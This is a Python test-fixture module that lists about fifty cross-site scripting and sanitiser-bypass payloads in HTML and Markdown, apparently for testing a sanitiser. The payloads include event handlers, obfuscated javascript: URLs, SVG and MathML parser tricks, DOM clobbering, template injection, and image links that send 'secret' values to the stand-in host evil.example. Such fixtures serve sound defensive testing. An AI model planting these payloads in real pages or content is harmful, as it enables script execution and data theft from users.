"""What pages have been broken with: script, handlers, URLs, clobbering, parsers that disagree, and quiet leaks.

Each would set `window.__xss`, open a dialog, load from elsewhere, or put an element where none may be. Collected after the
OWASP cheat sheet on filter evasion and DOMPurify's own tests, in our own words.
"""

from __future__ import annotations

_RUN = "window.__xss=1"

HOSTILE = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=https://evil.example/x.js>{_RUN}</ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='https://evil.example/leak?secret=1' onload={_RUN}>",
    "![leak](https://evil.example/leak?secret=2)",
    "![leak][ref]\n\n[ref]: https://evil.example/leak?secret=3",
    f"<svg onload={_RUN}><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\"></use></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<math href="javascript:{_RUN}">click</math>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](java&#10;script:{_RUN})",
    f"[click](&#x6A;avascript&colon;{_RUN})",
    f"[click](<javascript:{_RUN}>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    f"[click](vbscript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"[a](https://ok.example \"' onmouseover='{_RUN}\")",
    f"[a](https://ok.example'onmouseover='{_RUN})",
    f'![x](x"onerror="{_RUN})',
    f'![x" onerror="{_RUN}](data:image/png;base64,AAAA)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+)",
    f'<form action="javascript:{_RUN}"><button formaction="javascript:{_RUN}">x</button></form>',
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}></audio>",
    f"<body onload={_RUN}><marquee onstart={_RUN}>x</marquee>",
    f'<div style="background:url(https://evil.example/css)" onclick={_RUN}>x</div>',
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "<base href=https://evil.example/>",
    "<form id=composer><input name=attributes></form><a id=conversation name=body>x</a>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<template><img src=x onerror={_RUN}></template>",
    f'<p title="<!--"><img src=x onerror={_RUN}>--></p>',
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<textarea></textarea><img src=x onerror={_RUN}>",
    f"<xmp><img src=x onerror={_RUN}></xmp><plaintext>",
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f'```"><img/src=x/onerror={_RUN}>\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"<<img src=x onerror={_RUN}>script>{_RUN}<</script>/script>",
    f"\x00<img\x00 src=x onerror={_RUN}>",
    "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1}",
]
